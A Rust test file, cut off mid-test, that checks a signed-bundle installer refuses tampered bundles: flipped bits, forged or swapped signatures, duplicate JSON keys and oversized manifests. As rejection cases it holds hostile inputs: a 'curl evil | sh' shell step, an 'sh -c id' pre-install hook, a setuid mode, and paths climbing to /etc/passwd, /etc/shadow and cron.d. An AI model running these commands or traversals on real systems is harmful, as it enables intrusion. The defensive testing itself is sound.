//! Hostile bundles (issue #5, cases 1–5 and 7): every one is made in the test
//! from a good bundle built by the real `bundler` (tests/src/fixture.rs), and
//! every one must be refused by `install-bundle` with the documented exit code
//! (3 = verification failed; 4 = authentic but refused by policy) while a tree
//! hash of the target root is identical before and after, and by `bundler
//! verify` (exit 3). Where the attack needs a valid signature the manifest is
//! re-signed with the trusted key ("a signed bundle that is still malformed");
//! otherwise the attacker holds no key at all.

use std::io::Write as _;
use std::path::{Path, PathBuf};

use bundle_spec::read::ReadError;
use bundle_spec::sign::{KeyId, SecretKey, TrustedKeys};
use bundle_tests::cli::{Output, bundler, installer, keygen, run};
use bundle_tests::fixture::Fixture;
use bundle_tests::kit::{self, RawEntry};
use bundle_tests::tree::{diff_listings, tree_hash, tree_listing};
use serde_json::json;

const CIDR: &str = "--set=POD_CIDR=172.16.1.0/24";

/// A good bundle, its key, and a root to (not) install it into.
struct Setup {
    f: Fixture,
    good: PathBuf,
    root: PathBuf,
    key: SecretKey,
    trusted: TrustedKeys,
}

impl Setup {
    fn new() -> Self {
        let f = Fixture::new();
        let good = f.bundle();
        let root = f.root("root");
        let key = kit::secret_key(&f.keys.secret);
        let trusted = kit::trusted_keys(&f.keys.public);
        Self {
            f,
            good,
            root,
            key,
            trusted,
        }
    }

    fn entries(&self) -> Vec<RawEntry> {
        kit::read_entries(&self.good)
    }

    fn bytes(&self) -> Vec<u8> {
        std::fs::read(&self.good).unwrap()
    }

    fn write(&self, name: &str, entries: &[RawEntry]) -> PathBuf {
        self.write_bytes(name, &kit::compress(&kit::tar_bytes(entries)))
    }

    fn write_bytes(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let p = self.f.path(&format!("{name}.tar.zst"));
        std::fs::write(&p, bytes).unwrap();
        p
    }

    /// `entries` with the manifest edited and re-signed by the trusted key.
    fn resigned(&self, edit: impl FnOnce(&mut serde_json::Value)) -> Vec<RawEntry> {
        let mut e = self.entries();
        kit::edit_manifest(&mut e, &self.key, edit);
        e
    }

    /// `entries` with `manifest` (raw bytes) signed by the trusted key.
    fn resigned_raw(&self, manifest: Vec<u8>) -> Vec<RawEntry> {
        let mut e = self.entries();
        kit::resign(&mut e, manifest, &self.key);
        e
    }

    fn verify(&self, bundle: &Path) -> Output {
        run(
            &bundler(),
            [
                "verify".as_ref(),
                bundle.as_os_str(),
                "--key".as_ref(),
                self.f.keys.public.as_os_str(),
            ],
            &[],
        )
    }

    fn install(&self, bundle: &Path) -> Output {
        kit::install(&self.root, bundle, &self.f.keys.public, &[CIDR], &[])
    }

    /// The in-process reader, `bundler verify` and `install-bundle` all refuse
    /// `bundle` as unverifiable (exit 3, naming `message`), and the root is
    /// unchanged.
    #[track_caller]
    fn assert_rejected(&self, bundle: &Path, message: &str) {
        let bytes = std::fs::read(bundle).unwrap();
        match kit::read_in_process(&bytes, &self.trusted) {
            Ok(_) => panic!("{}: accepted by the reader", bundle.display()),
            Err(e) => {
                let text = e.to_string();
                assert!(
                    !matches!(e, ReadError::Sink { .. }),
                    "{}: {text}",
                    bundle.display()
                );
            }
        }
        let out = self.verify(bundle);
        out.code(3).stderr_has("refused").stderr_has(message);
        assert!(out.stdout.is_empty(), "{out}");
        self.assert_install_refused(bundle, 3, message);
    }

    /// `install-bundle` exits with `code`, says `message` and "nothing was
    /// changed", and the root's tree hash is unchanged.
    #[track_caller]
    fn assert_install_refused(&self, bundle: &Path, code: i32, message: &str) {
        let before = tree_hash(&self.root);
        let listing = tree_listing(&self.root);
        let out = self.install(bundle);
        out.code(code)
            .stderr_has(message)
            .stderr_has("nothing was changed");
        assert!(!out.stdout.contains("installed"), "{out}");
        let after = tree_hash(&self.root);
        assert!(
            after == before,
            "{}: the root changed:\n{}",
            bundle.display(),
            diff_listings(&listing, &tree_listing(&self.root)).join("\n")
        );
    }
}

/// Evenly spread positions in `0..len`, `n` of them.
fn spread(len: usize, n: usize) -> Vec<usize> {
    (0..n).map(|i| i * len / n).collect()
}

// ---------------------------------------------------------------------------
// 1. One flipped bit.
// ---------------------------------------------------------------------------

#[test]
fn flipped_bit_anywhere_in_the_compressed_file_is_rejected() {
    let s = Setup::new();
    let good = s.bytes();
    let original = kit::read_in_process(&good, &s.trusted).expect("the good bundle verifies");
    let layout = kit::zstd_layout(&good);
    assert_eq!(
        layout.checksum.as_ref().map(|c| c.end),
        Some(good.len()),
        "one frame with a checksum, ending the file: {layout:?}"
    );
    // Bit positions: every bit of the frame header, of every block header and
    // of the checksum; the first and last byte of every block's content; the
    // last 16 bytes; and 256 bytes spread over the whole file (bit index
    // varying with the position).
    let mut bits: Vec<usize> = Vec::new();
    bits.extend(layout.header.clone().flat_map(|b| b * 8..b * 8 + 8));
    for (h, content) in &layout.blocks {
        bits.extend(h.clone().flat_map(|b| b * 8..b * 8 + 8));
        if !content.is_empty() {
            bits.push(content.start * 8 + 3);
            bits.push((content.end - 1) * 8 + 6);
        }
    }
    let checksum = layout.checksum.clone().unwrap();
    bits.extend(checksum.flat_map(|b| b * 8..b * 8 + 8));
    bits.extend((good.len() - 16..good.len()).map(|b| b * 8 + b % 8));
    bits.extend(spread(good.len(), 256).into_iter().map(|b| b * 8 + b % 8));
    bits.sort_unstable();
    bits.dedup();
    let bytes_touched = {
        let mut b: Vec<usize> = bits.iter().map(|b| b / 8).collect();
        b.dedup();
        b.len()
    };
    assert!(
        bytes_touched >= 200,
        "only {bytes_touched} positions in a {} byte file",
        good.len()
    );

    // Where zstd's encoding has slack (the frame header's window size and
    // "unused" bit, table descriptions of symbols that never occur), a flip
    // can decode to the very same bytes; zstd's checksum covers the decoded
    // bytes, not their encoding. Such a flip is accepted and harmless: what
    // the signature and the digests cover is unchanged. Any flip that
    // changes one decoded byte must be refused.
    let original_tar = kit::decompress_bytes(&good);
    let check = |bit: usize| -> bool {
        let bad = kit::flip_bit(&good, bit);
        match kit::read_in_process(&bad, &s.trusted) {
            Err(ReadError::Sink { .. }) => panic!("bit {bit}: sink error"),
            Err(_) => false,
            Ok(a) => {
                assert_eq!(
                    kit::decompress_bytes(&bad),
                    original_tar,
                    "byte {} bit {}: accepted, and it decodes to other bytes",
                    bit / 8,
                    bit % 8
                );
                assert_eq!(a, original, "bit {bit}: accepted with other content");
                true
            }
        }
    };
    // The in-process reader on one bit of every single byte of the file.
    let same_everywhere: Vec<usize> = (0..good.len())
        .map(|pos| pos * 8 + (pos * 5) % 8)
        .filter(|&bit| check(bit))
        .collect();
    // Then the chosen positions, with `bundler verify` too.
    let accepted: Vec<usize> = bits.iter().copied().filter(|&bit| check(bit)).collect();
    let rejected: Vec<usize> = bits
        .iter()
        .copied()
        .filter(|b| !accepted.contains(b))
        .collect();
    for &bit in &rejected {
        let path = s.write_bytes("flipped", &kit::flip_bit(&good, bit));
        let out = s.verify(&path);
        assert_eq!(out.code, 3, "bit {bit} accepted by bundler verify\n{out}");
    }
    // A sample of 20, spread over the positions, through the installer.
    for k in spread(rejected.len(), 20) {
        let path = s.write_bytes(&format!("flipped-{k}"), &kit::flip_bit(&good, rejected[k]));
        s.assert_install_refused(&path, 3, "verification failed");
    }
    eprintln!(
        "one bit of each of the {size} bytes flipped: {n} decoded to identical bytes and \
         were accepted ({same_everywhere:?}), the rest refused; {flipped} bits at \
         {bytes_touched} chosen byte positions: {rejected} refused, {m} decoded to \
         identical bytes ({accepted:?})",
        size = good.len(),
        n = same_everywhere.len(),
        flipped = bits.len(),
        rejected = rejected.len(),
        m = accepted.len(),
    );
    assert!(
        rejected.len() >= 200,
        "only {} refused positions",
        rejected.len()
    );
}

#[test]
fn flipped_bit_in_every_entry_header_and_data_is_rejected() {
    // The decompressed tar is edited and compressed again, so the zstd
    // checksum is valid: only the format's own checks stand in the way.
    let s = Setup::new();
    let entries = s.entries();
    let tar = kit::tar_bytes(&entries);
    let layout = kit::tar_layout(&entries);
    let mut positions = Vec::new();
    let mut checksum_fields = Vec::new();
    for (header, data, pad) in &layout.entries {
        // name, mode, uid, size, mtime, checksum (every byte), type, link
        // name, magic, version, user name, prefix, last header byte.
        for off in [
            0, 5, 100, 108, 124, 130, 136, 156, 157, 257, 263, 265, 345, 511,
        ] {
            positions.push(header + off);
        }
        positions.extend((148..156).map(|off| header + off));
        checksum_fields.push(header + 148..header + 156);
        positions.extend([data.start, (data.start + data.end) / 2, data.end - 1]);
        if !pad.is_empty() {
            positions.extend([pad.start, pad.end - 1]);
        }
    }
    positions.extend([layout.end.start, layout.end.start + 511, layout.end.end - 1]);
    let original = kit::read_in_process(&s.bytes(), &s.trusted).unwrap();
    // Every bit of every position.
    let mut accepted = Vec::new();
    let mut tried = 0;
    for &pos in &positions {
        for bit in pos * 8..pos * 8 + 8 {
            tried += 1;
            let bad = kit::compress(&kit::flip_bit(&tar, bit));
            if let Ok(a) = kit::read_in_process(&bad, &s.trusted) {
                // The only freedom: the header checksum field is parsed as
                // an octal number, so '0' -> ' ' (leading blank) or the
                // terminator NUL <-> ' ' give the same value. What the
                // signature covers is then exactly the original.
                assert!(
                    checksum_fields.iter().any(|f| f.contains(&pos)),
                    "tar byte {pos} bit {}: accepted",
                    bit % 8
                );
                assert_eq!(a, original, "tar byte {pos} bit {}: other content", bit % 8);
                accepted.push(bit);
            }
        }
    }
    eprintln!(
        "{tried} bits flipped in {} tar positions; {} accepted, all of them an \
         equivalent spelling of a header checksum (same authenticated content): {accepted:?}",
        positions.len(),
        accepted.len()
    );
    // bundler verify and the installer agree with the in-process reader.
    let rejected: Vec<usize> = positions
        .iter()
        .enumerate()
        .map(|(k, &pos)| pos * 8 + k % 8)
        .filter(|bit| !accepted.contains(bit))
        .collect();
    for &bit in rejected.iter().step_by(3) {
        let path = s.write_bytes("tar-flip", &kit::compress(&kit::flip_bit(&tar, bit)));
        let out = s.verify(&path);
        assert_eq!(out.code, 3, "tar byte {} bit {}\n{out}", bit / 8, bit % 8);
    }
    for k in spread(rejected.len(), 10) {
        let bit = rejected[k];
        let path = s.write_bytes(
            &format!("tar-flip-{k}"),
            &kit::compress(&kit::flip_bit(&tar, bit)),
        );
        s.assert_install_refused(&path, 3, "verification failed");
    }
}

// ---------------------------------------------------------------------------
// 2. Truncated, extended, concatenated, empty, not zstd.
// ---------------------------------------------------------------------------

#[test]
fn truncated_at_many_lengths_is_rejected() {
    let s = Setup::new();
    let good = s.bytes();
    let mut lengths: Vec<usize> = (0..64).collect();
    lengths.extend(spread(good.len(), 150));
    lengths.extend(good.len() - 64..good.len());
    lengths.sort_unstable();
    lengths.dedup();
    for &n in &lengths {
        assert!(
            kit::read_in_process(&good[..n], &s.trusted).is_err(),
            "truncated to {n} bytes: accepted"
        );
    }
    for &n in lengths.iter().step_by(8) {
        let path = s.write_bytes("truncated", &good[..n]);
        assert_eq!(s.verify(&path).code, 3, "truncated to {n} bytes");
    }
    for n in [0, 4, 100, good.len() / 2, good.len() - 5, good.len() - 1] {
        let path = s.write_bytes(&format!("truncated-{n}"), &good[..n]);
        s.assert_install_refused(&path, 3, "verification failed");
    }
}

#[test]
fn extra_bytes_appended_are_rejected() {
    let s = Setup::new();
    let good = s.bytes();
    // A skippable frame (magic 0x184D2A5?) is valid zstd that decoders skip.
    let mut skippable = vec![0x50, 0x2a, 0x4d, 0x18, 4, 0, 0, 0];
    skippable.extend_from_slice(b"evil");
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("one-byte", b"x".to_vec()),
        ("one-zero", vec![0]),
        ("zero-block", vec![0; 512]),
        ("megabyte", vec![0x41; 1 << 20]),
        ("skippable-frame", skippable),
    ];
    for (name, extra) in cases {
        let bytes = [good.clone(), extra].concat();
        let path = s.write_bytes(&format!("appended-{name}"), &bytes);
        s.assert_rejected(&path, "after the zstd frame");
    }
}

#[test]
fn second_concatenated_zstd_frame_is_rejected() {
    let s = Setup::new();
    let good = s.bytes();
    // Another whole bundle; an empty frame; a frame holding one more
    // (unlisted) tar entry after the end of the archive.
    let smuggled = kit::tar_bytes(&[RawEntry::file("artifacts/zz", b"evil".to_vec())]);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("bundle", good.clone()),
        ("empty", kit::compress(b"")),
        ("entry", kit::compress(&smuggled)),
    ];
    for (name, frame) in cases {
        let bytes = [good.clone(), frame].concat();
        let path = s.write_bytes(&format!("two-frames-{name}"), &bytes);
        s.assert_rejected(&path, "after the zstd frame");
    }
    // And the archive split over two frames (each valid): the end of the
    // first frame comes before the end of the archive.
    let tar = kit::tar_bytes(&s.entries());
    let cut = tar.len() / 2 / 512 * 512;
    let split = [kit::compress(&tar[..cut]), kit::compress(&tar[cut..])].concat();
    let path = s.write_bytes("split-frames", &split);
    s.assert_rejected(&path, "ends early");
}

#[test]
fn empty_file_is_rejected() {
    let s = Setup::new();
    let path = s.write_bytes("empty", b"");
    s.assert_rejected(&path, "");
}

#[test]
fn not_zstd_is_rejected() {
    let s = Setup::new();
    let tar = kit::tar_bytes(&s.entries());
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("text", b"hello world, definitely not zstd\n".to_vec()),
        ("plain-tar", tar.clone()),
        ("zeros", vec![0; 4096]),
        (
            "gzip-magic",
            [vec![0x1f, 0x8b, 8, 0], tar[..1000].to_vec()].concat(),
        ),
        ("zstd-magic-only", vec![0x28, 0xb5, 0x2f, 0xfd]),
    ];
    for (name, bytes) in cases {
        let path = s.write_bytes(&format!("not-zstd-{name}"), &bytes);
        s.assert_rejected(&path, "");
    }
}

// ---------------------------------------------------------------------------
// 3. The signature.
// ---------------------------------------------------------------------------

#[test]
fn missing_signature_is_rejected() {
    let s = Setup::new();
    let mut e = s.entries();
    e.remove(1);
    let path = s.write("no-signature", &e);
    s.assert_rejected(&path, "expected \"BUNDLE.json.minisig\"");
    // An empty signature entry.
    let mut e = s.entries();
    e[1] = RawEntry::file("BUNDLE.json.minisig", Vec::new());
    let path = s.write("empty-signature", &e);
    s.assert_rejected(&path, "signature check failed");
    // A signature entry of 1 MiB (valid lines, then padding): refused from
    // its header.
    let mut e = s.entries();
    let mut sig = e[1].data.clone();
    sig.resize(1 << 20, b'\n');
    e[1] = RawEntry::file("BUNDLE.json.minisig", sig);
    let path = s.write("huge-signature", &e);
    s.assert_rejected(&path, "more than the limit");
}

#[test]
fn signature_by_an_untrusted_key_is_rejected() {
    let s = Setup::new();
    let other = keygen(s.f.dir.path(), "attacker");
    let mut e = s.entries();
    let manifest = e[0].data.clone();
    kit::resign(&mut e, manifest, &kit::secret_key(&other.secret));
    let path = s.write("untrusted", &e);
    s.assert_rejected(&path, "which is not trusted");
}

#[test]
fn signature_key_id_swapped_is_rejected() {
    let s = Setup::new();
    let trusted_id = kit::signature(&s.entries()).key_id;
    // Signed by an attacker's key, relabelled with the trusted key's id.
    let other = keygen(s.f.dir.path(), "attacker");
    let mut e = s.entries();
    let manifest = e[0].data.clone();
    kit::resign(&mut e, manifest, &kit::secret_key(&other.secret));
    let mut sig = kit::signature(&e);
    sig.key_id = trusted_id;
    kit::set_signature(&mut e, &sig);
    let path = s.write("relabelled", &e);
    s.assert_rejected(&path, "does not match the signed data");
    // Signed by the trusted key, labelled with another (unknown) id.
    let mut e = s.entries();
    let mut sig = kit::signature(&e);
    sig.key_id = KeyId([0x42; 8]);
    kit::set_signature(&mut e, &sig);
    let path = s.write("unknown-id", &e);
    s.assert_rejected(&path, "which is not trusted");
}

#[test]
fn edited_trusted_comment_is_rejected() {
    let s = Setup::new();
    // Edited without the key: the global signature no longer verifies.
    for comment in ["k8s-worker 1.21.0-1 999", "k8s-worker 1.21.0-1 1 ", ""] {
        let mut e = s.entries();
        let mut sig = kit::signature(&e);
        sig.trusted_comment = comment.into();
        kit::set_signature(&mut e, &sig);
        let path = s.write("comment-edited", &e);
        s.assert_rejected(&path, "the comment was modified");
    }
    // Validly signed by the trusted key, but not describing this manifest
    // (a signature made for another release's name/version/serial).
    let mut e = s.entries();
    let sig = s.key.sign(
        &e[0].data,
        "k8s-worker 1.21.0-1 2",
        bundle_spec::write::MANIFEST_SIGNATURE_COMMENT,
    );
    kit::set_signature(&mut e, &sig);
    let path = s.write("comment-other-release", &e);
    s.assert_rejected(&path, "does not match the manifest");
}

#[test]
fn stripped_global_signature_is_rejected() {
    let s = Setup::new();
    let text = String::from_utf8(s.entries()[1].data.clone()).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 4);
    let variants = [
        // Line 4 gone; lines 3 and 4 gone; line 4 empty; line 4 all zeros.
        format!("{}\n{}\n{}\n", lines[0], lines[1], lines[2]),
        format!("{}\n{}\n", lines[0], lines[1]),
        format!("{}\n{}\n{}\n\n", lines[0], lines[1], lines[2]),
        format!(
            "{}\n{}\n{}\n{}\n",
            lines[0],
            lines[1],
            lines[2],
            "A".repeat(86) + "=="
        ),
    ];
    for (i, v) in variants.iter().enumerate() {
        let mut e = s.entries();
        e[1] = RawEntry::file("BUNDLE.json.minisig", v.clone().into_bytes());
        let path = s.write(&format!("no-global-{i}"), &e);
        s.assert_rejected(&path, "signature check failed");
    }
}

#[test]
fn signature_over_another_manifest_is_rejected() {
    let s = Setup::new();
    // Release 2 of the same bundle, signed by the same trusted key.
    let spec2 = s.f.write_spec("spec2.json", 2, &[]);
    let v2 = s.f.build(&spec2, "v2.tar.zst");
    let e2 = kit::read_entries(&v2);
    // v1's manifest with v2's (valid) signature, and v2's manifest with v1's.
    let mut e = s.entries();
    e[1] = e2[1].clone();
    let path = s.write("mix-1", &e);
    s.assert_rejected(&path, "does not match the signed data");
    let mut e = e2.clone();
    e[1] = s.entries()[1].clone();
    let path = s.write("mix-2", &e);
    s.assert_rejected(&path, "does not match the signed data");
    // A manifest edited to install elsewhere, carrying the original signature.
    let mut e = s.entries();
    let sig = e[1].clone();
    kit::edit_manifest(&mut e, &s.key, |m| {
        m["steps"][2]["dest"] = "/usr/bin/runc".into();
    });
    e[1] = sig;
    let path = s.write("mix-3", &e);
    s.assert_rejected(&path, "does not match the signed data");
}

#[test]
fn prehash_algorithm_id_changed_is_rejected() {
    let s = Setup::new();
    for alg in [*b"Ed", *b"EE", [0, 0]] {
        let mut e = s.entries();
        let mut sig = kit::signature(&e);
        sig.algorithm = alg;
        kit::set_signature(&mut e, &sig);
        let path = s.write("algorithm", &e);
        s.assert_rejected(&path, "signature check failed");
    }
}

// ---------------------------------------------------------------------------
// 4. The manifest, re-signed with the trusted key.
// ---------------------------------------------------------------------------

#[test]
fn manifest_artifact_path_with_dotdot_is_rejected() {
    let s = Setup::new();
    for p in [
        "artifacts/../runc",
        "artifacts/runc/..",
        "../artifacts/runc",
    ] {
        let e = s.resigned(|m| m["artifacts"]["runc"]["path"] = p.into());
        let path = s.write("path-dotdot", &e);
        s.assert_rejected(&path, "artifacts.runc.path");
    }
    // And an artifact *name* that climbs.
    let e = s.resigned(|m| {
        let a = m["artifacts"]["runc"].clone();
        m["artifacts"]["../runc"] = a;
        m["artifacts"]["../runc"]["path"] = "artifacts/../runc".into();
        m["steps"][2]["artifact"] = "../runc".into();
    });
    let path = s.write("name-dotdot", &e);
    s.assert_rejected(&path, "invalid manifest");
}

#[test]
fn manifest_artifact_absolute_path_is_rejected() {
    let s = Setup::new();
    let e = s.resigned(|m| m["artifacts"]["runc"]["path"] = "/usr/local/bin/runc".into());
    let path = s.write("path-absolute", &e);
    s.assert_rejected(&path, "artifacts.runc.path");
}

#[test]
fn manifest_artifact_path_to_etc_passwd_is_rejected() {
    let s = Setup::new();
    let e = s.resigned(|m| m["artifacts"]["runc"]["path"] = "artifacts/../../etc/passwd".into());
    let path = s.write("path-passwd", &e);
    s.assert_rejected(&path, "artifacts.runc.path");
    // Even when the tar entry carries that name too.
    let mut e = e;
    let i = e.iter().position(|x| x.name() == "artifacts/runc").unwrap();
    e[i].set_name("artifacts/../../etc/passwd");
    let path = s.write("path-passwd-entry", &e);
    s.assert_rejected(&path, "artifacts.runc.path");
}

/// Compact JSON of `v` where the object at `path` gets `key: dup` inserted
/// just before (or, with `after`, just after) its own `key`.
fn with_duplicate(
    v: &serde_json::Value,
    path: &[&str],
    key: &str,
    dup: &serde_json::Value,
    after: bool,
) -> Vec<u8> {
    fn emit(
        v: &serde_json::Value,
        path: &[&str],
        key: &str,
        dup: &serde_json::Value,
        after: bool,
        out: &mut String,
    ) {
        match v {
            serde_json::Value::Object(map) => {
                out.push('{');
                let mut first = true;
                let mut field =
                    |k: &str, val: &serde_json::Value, out: &mut String, deeper: bool| {
                        if !first {
                            out.push(',');
                        }
                        first = false;
                        out.push_str(&serde_json::to_string(k).unwrap());
                        out.push(':');
                        if deeper {
                            emit(val, &path[1..], key, dup, after, out);
                        } else {
                            out.push_str(&serde_json::to_string(val).unwrap());
                        }
                    };
                for (k, val) in map {
                    if path.is_empty() && k == key && !after {
                        field(k, dup, out, false);
                    }
                    field(k, val, out, path.first() == Some(&k.as_str()));
                    if path.is_empty() && k == key && after {
                        field(k, dup, out, false);
                    }
                }
                out.push('}');
            }
            other => out.push_str(&serde_json::to_string(other).unwrap()),
        }
    }
    let mut out = String::new();
    emit(v, path, key, dup, after, &mut out);
    out.push('\n');
    out.into_bytes()
}

#[test]
fn manifest_with_duplicate_keys_is_rejected() {
    // serde_json keeps the last of duplicate keys in a map; a second parser
    // (jq, Python, a human) may read the first. A signed manifest must mean one
    // thing, so the reader refuses duplicate keys anywhere.
    let s = Setup::new();
    let m = kit::manifest_json(&s.entries());
    let mut evil_runc = m["artifacts"]["runc"].clone();
    evil_runc["sha256"] = "00".repeat(32).into();
    let cases: Vec<(&str, &[&str], &str, serde_json::Value)> = vec![
        ("artifact-name", &["artifacts"], "runc", evil_runc),
        ("top-level-serial", &[], "serial", json!(99)),
        ("top-level-steps", &[], "steps", json!([])),
        (
            "variable",
            &["variables"],
            "POD_CIDR",
            json!({"default": "0.0.0.0/0"}),
        ),
        ("artifact-field", &["artifacts", "runc"], "size", json!(1)),
        ("target-arch", &["target"], "arch", json!("arm64")),
    ];
    for (name, path, key, dup) in cases {
        for after in [false, true] {
            let bytes = with_duplicate(&m, path, key, &dup, after);
            // The same document without the duplicate is a valid manifest.
            let e = s.resigned_raw(bytes);
            let p = s.write(&format!("dup-{name}-{after}"), &e);
            s.assert_rejected(&p, "duplicate");
        }
    }
    // A duplicate inside a step object (serde's tagged enums buffer them).
    let raw_step = serde_json::to_string(&m["steps"][2]).unwrap();
    let dup_step = raw_step.replacen("\"dest\":", "\"dest\":\"/etc/evil\",\"dest\":", 1);
    let compact = serde_json::to_string(&m).unwrap();
    assert!(compact.contains(&raw_step));
    let bytes = compact.replacen(&raw_step, &dup_step, 1).into_bytes();
    let e = s.resigned_raw(bytes);
    let p = s.write("dup-step-dest", &e);
    s.assert_rejected(&p, "duplicate");
}

#[test]
fn manifest_parser_names_the_duplicate_key_and_where_it_is() {
    let s = Setup::new();
    let m = kit::manifest_json(&s.entries());
    let limits = bundle_spec::Limits::default();
    assert!(bundle_spec::validate::parse_manifest(&kit::manifest_bytes(&m), &limits).is_ok());
    let bytes = with_duplicate(&m, &["artifacts"], "runc", &m["artifacts"]["runc"], true);
    let e = bundle_spec::validate::parse_manifest(&bytes, &limits).unwrap_err();
    assert!(
        e.to_string()
            .starts_with("artifacts: duplicate key \"runc\" at line 1"),
        "{e}"
    );
    // Also when the two spellings differ but mean the same key.
    let text = String::from_utf8(kit::manifest_bytes(&m)).unwrap();
    let text = text.replacen("\"serial\": 1,", "\"serial\": 1, \"seri\\u0061l\": 2,", 1);
    let e = bundle_spec::validate::parse_manifest(text.as_bytes(), &limits).unwrap_err();
    assert!(e.to_string().starts_with("duplicate key \"serial\""), "{e}");
}

#[test]
fn manifest_dest_outside_normal_rules_is_rejected() {
    let s = Setup::new();
    for dest in [
        "/usr/local/bin/../../../etc/shadow",
        "usr/local/bin/runc",
        "/usr//local/bin/runc",
        "/usr/local/bin/./runc",
        "/usr/local/bin/runc/",
        "/usr/local/bin/ru\nnc",
        "/",
        "",
        "../../etc/shadow",
    ] {
        let e = s.resigned(|m| m["steps"][2]["dest"] = dest.into());
        let path = s.write("dest", &e);
        s.assert_rejected(&path, "steps[2]");
    }
    // Also for directory paths and extract destinations.
    let e = s.resigned(|m| m["steps"][5]["paths"][0] = "/var/lib/../../etc".into());
    let path = s.write("dir-path", &e);
    s.assert_rejected(&path, "steps[5]");
    let e = s.resigned(|m| m["steps"][3]["dest"] = "/usr/local/bin/..".into());
    let path = s.write("extract-dest", &e);
    s.assert_rejected(&path, "steps[3]");
    // Names that become paths: /etc/modules-load.d/NAME.conf and
    // /etc/systemd/system/NAME.
    for (step, name) in [
        (1, "../../cron.d/evil"),
        (1, "a/b"),
        (7, "../../../cron.d/evil.service"),
        (7, "evil/.service"),
        (7, ".service"),
    ] {
        let e = s.resigned(|m| m["steps"][step]["name"] = name.into());
        let path = s.write("step-name", &e);
        s.assert_rejected(&path, &format!("steps[{step}]"));
    }
}

#[test]
fn manifest_unknown_step_kind_is_rejected() {
    let s = Setup::new();
    let e = s.resigned(|m| {
        m["steps"]
            .as_array_mut()
            .unwrap()
            .push(json!({"kind": "shell", "script": "curl evil | sh"}))
    });
    let path = s.write("step-kind", &e);
    s.assert_rejected(&path, "shell");
    let e = s.resigned(|m| m["steps"][2]["kind"] = "Binary".into());
    let path = s.write("step-kind-case", &e);
    s.assert_rejected(&path, "Binary");
}

#[test]
fn manifest_unknown_fields_are_rejected() {
    let s = Setup::new();
    // (name, JSON pointer of an object, an unknown field to add to it)
    let cases = [
        ("top", "", "pre_install", json!(["sh", "-c", "id"])),
        ("artifact", "/artifacts/runc", "mode", json!("4755")),
        ("step", "/steps/2", "owner", json!("root")),
        ("target", "/target", "kernel", json!("6.1")),
    ];
    for (name, pointer, field, value) in cases {
        let e = s.resigned(|m| m.pointer_mut(pointer).unwrap()[field] = value);
        let path = s.write(&format!("unknown-{name}"), &e);
        s.assert_rejected(&path, "unknown field");
    }
}

#[test]
fn manifest_of_100_mib_is_refused_from_its_header() {
    let s = Setup::new();
    // A valid manifest padded with 100 MiB of JSON white space, signed.
    let mut bytes = s.entries()[0].data.clone();
    let last = bytes.pop().unwrap();
    bytes.resize(bytes.len() + (100 << 20), b' ');
    bytes.push(last);
    let e = s.resigned_raw(bytes);
    let path = s.write("huge-manifest", &e);
    drop(e);
    match kit::read_in_process(&std::fs::read(&path).unwrap(), &s.trusted) {
        Err(ReadError::TooLarge { entry, size, .. }) => {
            assert_eq!(entry, "BUNDLE.json");
            assert!(size > 100 << 20);
        }
        other => panic!("{other:?}"),
    }
    s.assert_rejected(&path, "more than the limit");
    // Memory stays bounded: the manifest is never read.
    if let Some((out, kib)) = kit::run_measured(
        &installer(),
        kit::install_args(&s.root, &path, &s.f.keys.public, &[CIDR]),
        &[],
    ) {
        out.code(3);
        eprintln!("peak RSS refusing a 100 MiB manifest: {kib} KiB");
        assert!(kib < 48 << 10, "peak RSS {kib} KiB");
    } else {
        eprintln!("SKIPPED the memory measurement: /usr/bin/time is not installed");
    }
}

#[test]
fn deeply_nested_json_manifest_is_rejected() {
    let s = Setup::new();
    for depth in [33, 1000, 100_000] {
        let nested = format!("{}{}", "[".repeat(depth), "]".repeat(depth));
        let mut text = String::from_utf8(s.entries()[0].data.clone()).unwrap();
        let brace = text.rfind('}').unwrap();
        text.insert_str(brace, &format!(",\"x\":{nested}"));
        let e = s.resigned_raw(text.into_bytes());
        let path = s.write(&format!("nested-{depth}"), &e);
        s.assert_rejected(&path, "nested deeper");
    }
    // Nested objects inside a legitimate field.
    let e = s.resigned(|m| {
        let mut v = json!("x");
        for _ in 0..64 {
            v = json!({ "a": v });
        }
        m["variables"]["POD_CIDR"]["default"] = v;
    });
    let path = s.write("nested-objects", &e);
    s.assert_rejected(&path, "nested deeper");
}

#[test]
fn manifest_size_of_2_pow_63_is_rejected() {
    let s = Setup::new();
    for size in [json!(1u64 << 63), json!(u64::MAX), json!(64u64 << 30 | 1)] {
        let e = s.resigned(|m| m["artifacts"]["runc"]["size"] = size.clone());
        let path = s.write("size-huge", &e);
        s.assert_rejected(&path, "artifacts.runc.size");
    }
    // Two artifacts whose sizes would overflow a u64 sum.
    let e = s.resigned(|m| {
        m["artifacts"]["runc"]["size"] = json!(1u64 << 63);
        m["artifacts"]["crictl"]["size"] = json!(1u64 << 63);
    });
    let path = s.write("size-overflow", &e);
    s.assert_rejected(&path, "artifacts");
    // Not even a u64, or negative.
    for size in [json!(18446744073709551616.0), json!(-1), json!("1")] {
        let e = s.resigned(|m| m["artifacts"]["runc"]["size"] = size.clone());
        let path = s.write("size-bad", &e);
        s.assert_rejected(&path, "invalid manifest");
    }
    // A tar header whose size field says 2^63 (base-256 encoded), for the
    // manifest entry and for an artifact.
    for index in [0, 3] {
        let mut e = s.entries();
        let h = &mut e[index].header;
        h[124..136].fill(0);
        h[124] = 0x80;
        h[128] = 0x80; // 2^63, big-endian in the last 8 bytes (GNU base-256)
        e[index].fix_checksum();
        let tar = kit::tar_bytes(&e);
        let path = s.write_bytes(&format!("header-2-63-{index}"), &kit::compress(&tar));
        s.assert_rejected(&path, "");
    }
}

// ---------------------------------------------------------------------------
// 5. Archive structure.
// ---------------------------------------------------------------------------

fn artifact_index(e: &[RawEntry], name: &str) -> usize {
    e.iter()
        .position(|x| x.name() == format!("artifacts/{name}"))
        .unwrap()
}

#[test]
fn entries_out_of_order_are_rejected() {
    let s = Setup::new();
    // Two artifacts swapped (entry 2 is the SBOM).
    let mut e = s.entries();
    assert_eq!(e[2].name(), "SBOM.cdx.json");
    e.swap(3, 4);
    let path = s.write("swapped-artifacts", &e);
    s.assert_rejected(&path, "expected \"artifacts/");
    // The SBOM after an artifact.
    let mut e = s.entries();
    e.swap(2, 3);
    let path = s.write("swapped-sbom", &e);
